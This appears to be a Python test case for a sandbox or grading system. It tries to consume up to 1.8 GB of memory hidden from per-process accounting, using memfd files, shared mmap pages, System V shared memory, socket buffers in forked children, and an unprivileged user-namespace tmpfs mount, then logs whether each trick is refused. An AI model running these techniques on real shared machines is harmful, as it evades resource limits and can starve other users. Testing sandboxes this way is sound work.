"""Uses memory that is not counted in any process, up to 1.8 GB."""

import ctypes
import mmap
import os
import socket
import threading
import time

import attack
import solution

MOST = attack.most(1_800, 100)  # MB
kept = []
took = 0


def count(megabytes):
    global took
    took += megabytes
    attack.say(f"TOOK {took}")
    return took < MOST


def memory_files():
    while True:
        kept.append(os.memfd_create("x"))
        for _ in range(6):
            os.write(kept[-1], bytes(10 * attack.MIB))
        if not count(60):
            return


def shared_pages():
    while True:
        kept.append(mmap.mmap(-1, 100 * attack.MIB))
        kept[-1].write(bytes(100 * attack.MIB))
        if not count(100):
            return


def forgotten_pages():
    while True:
        kept.append(mmap.mmap(-1, 100 * attack.MIB))
        kept[-1].write(bytes(100 * attack.MIB))
        kept[-1].madvise(mmap.MADV_DONTNEED)
        if not count(100):
            return


def system_v():
    attack.LIBC.shmat.restype = ctypes.c_void_p
    while (segment := attack.LIBC.shmget(0, 100 * attack.MIB, 0o1600)) >= 0:
        place = ctypes.c_void_p(attack.LIBC.shmat(segment, None, 0))
        ctypes.memset(place, 1, 100 * attack.MIB)
        attack.LIBC.shmdt(place)
        if not attack.PROTECTED:
            attack.LIBC.shmctl(segment, 0, None)  # IPC_RMID
        if not count(100):
            return
    raise OSError(ctypes.get_errno(), "shmget")


def sockets():
    def fill(share):
        written = 0
        while written < share:
            pair = socket.socketpair()
            kept.append(pair)
            for end in pair:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
                end.setblocking(False)
                try:
                    while True:
                        written += end.send(bytes(65536))
                except BlockingIOError:
                    pass

    for _ in range(MOST // 100):
        reading, writing = os.pipe()
        if os.fork() == 0:
            try:
                fill(100 * attack.MIB)
                os.write(writing, b"x")
            except OSError:
                os.close(writing)
            time.sleep(60)
            os._exit(0)
        os.close(writing)
        if not os.read(reading, 1):
            raise OSError(0, "no more sockets")
        if not count(100):
            return


def own_file_system():
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    uid, gid = os.getuid(), os.getgid()
    if attack.LIBC.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER, CLONE_NEWNS
        attack.say("REFUSED: unshare")
        os._exit(0)
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    if attack.LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=5g") == 0:
        number = 0
        while True:
            with open(f"/tmp/{number}", "wb") as file:
                for _ in range(5):
                    file.write(bytes(10 * attack.MIB))
            number += 1
            if not count(50):
                os._exit(0)
    attack.say("REFUSED: mount")
    os._exit(0)


def take():
    try:
        globals()[attack.CONFIG["trick"]]()
    except OSError as error:
        attack.say(f"REFUSED: {error.strerror}")


def start():
    thread = threading.Thread(target=take, daemon=True)
    thread.start()
    thread.join(6)


attack.at_first_post(start)
solution.main()
